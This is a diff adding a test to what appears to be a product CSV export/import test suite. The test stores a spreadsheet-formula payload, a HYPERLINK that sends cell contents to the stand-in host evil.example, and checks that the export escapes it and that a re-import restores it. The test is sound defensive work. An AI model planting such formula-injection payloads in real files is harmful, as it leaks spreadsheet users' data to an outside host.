@@ -80,6 +80,18 @@ describe("product CSV", () => {
     expect(await catalogVersion()).toBe(version);
   });
 
+  it("exports a name that a spreadsheet would run as a formula as text, and reads it back as it was", async () => {
+    const formula = '=HYPERLINK("http://evil.example/?"&A1,"Fiyat listesi")';
+    const [p] = await db().select().from(products).orderBy(products.code).limit(1);
+    await db().update(products).set({ name: formula }).where(eq(products.id, p!.id));
+    const exported = await call(exportCsv, "/api/admin/products/export", { cookie: staff, method: "GET" });
+    const line = exported.text.split("\r\n").find((l) => l.startsWith(`${p!.code};`));
+    expect(line?.split(";")[1]).toBe(`"'=HYPERLINK(""http://evil.example/?""&A1,""Fiyat listesi"")"`);
+    const res = await call(importCsv, "/api/admin/products/import", { cookie: staff, body: { csv: exported.text } });
+    expect([res.json.updated, res.json.rejected]).toEqual([0, []]);
+    expect((await db().select().from(products).where(eq(products.id, p!.id)))[0]!.name).toBe(formula);
+  });
+
   it("imports the good rows and reports each bad row with its line number and reason", async () => {
     const exported = await call(exportCsv, "/api/admin/products/export", { cookie: staff, method: "GET" });
     const [head, ...rows] = parseCsv(exported.text).map((r) => r.fields);
